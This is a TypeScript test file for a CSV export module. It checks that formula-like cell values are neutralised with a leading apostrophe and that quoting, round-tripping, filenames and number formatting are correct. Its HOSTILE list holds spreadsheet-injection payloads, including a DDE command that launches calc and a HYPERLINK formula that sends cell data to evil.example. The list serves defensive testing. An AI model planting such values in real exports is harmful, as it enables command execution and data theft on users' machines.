import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { exactText } from '#components/ui/admin/exact-text.ts'
import { csvResponse } from '#lib/core/http/route.ts'
import { csvFile, csvRow, parseCsv } from '#lib/core/rules/csv.ts'
import { EXPORTED_LISTS } from '#lib/core/rules/lists.ts'

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '-cmd',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1',
  '|calc',
  '%0A=1',
]

describe('D40 a file for spreadsheets', () => {
  test.each(HOSTILE)('runs nothing: %j', (text) => {
    const cell = parseCsv(csvRow([text]))?.[0]?.[0]

    expect(cell).toBe(`'${text}`)
  })

  test.each([
    ['plain', 'plain'],
    [-12, '-12'],
    ['-12.50', '-12.50'],
    ['-12,50', '"-12,50"'],

    [null, ''],
    [undefined, ''],
    [new Date('2027-03-03T14:12:00Z'), '2027-03-03T14:12:00.000Z'],
    ['he said "no"', '"he said ""no"""'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['two\nlines', '"two\nlines"'],
    [' padded ', '" padded "'],
    ['Côte d’Ivoire ١', 'Côte d’Ivoire ١'],
  ])('writes %j as %j', (value, expected) => {
    expect(csvRow([value])).toBe(`${expected}\r\n`)
  })

  test('begins with the mark of UTF-8 and has one line per row', () => {
    expect(csvFile(['a', 'b'], [[1, 2]])).toBe('\ufeffa,b\r\n1,2\r\n')
  })

  test('is read back as it was written, apart from the apostrophes', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 2, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const read = parseCsv(rows.map(csvRow).join(''))

          expect(read?.map((cells) => cells.map((cell) => cell.replace(/^'/, '')))).toEqual(
            rows.map((cells) => cells.map((cell) => cell.replace(/^'/, ''))),
          )
        },
      ),
    )
  })

  test('no cell ever begins like a formula', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const cell = parseCsv(csvRow([text, 'x']))?.[0]?.[0] ?? ''

        expect(/^[=+@\t\r|%]/.test(cell) || (/^-/.test(cell) && !/^-\d+([.,]\d+)?$/.test(cell))).toBe(false)
      }),
    )
  })

  test('with a quotation that is never closed is not read', () => {
    expect(parseCsv('a,"b')).toBeNull()
  })
})

test.each(EXPORTED_LISTS)('the file of the list %s has a name that needs no encoding', async (list) => {
  const rows = (async function* () {
    yield 'a\n'
  })()
  const { headers } = await csvResponse(rows, `${list}-2027-01-05`)

  expect(headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9-]+\.csv"$/)
})

test('a cost keeps its places, has two at least, and is written as its reader writes numbers', () => {
  expect(['3.5', '0', '1440.864', '0.000001', '-2'].map((amount) => exactText(amount, 'en'))).toEqual([
    '3.50',
    '0.00',
    '1,440.864',
    '0.000001',
    '−2.00',
  ])
  // Read as written in English, this would be a hundred thousand.
  expect(exactText('106.785', 'de')).toBe('106,785')
})
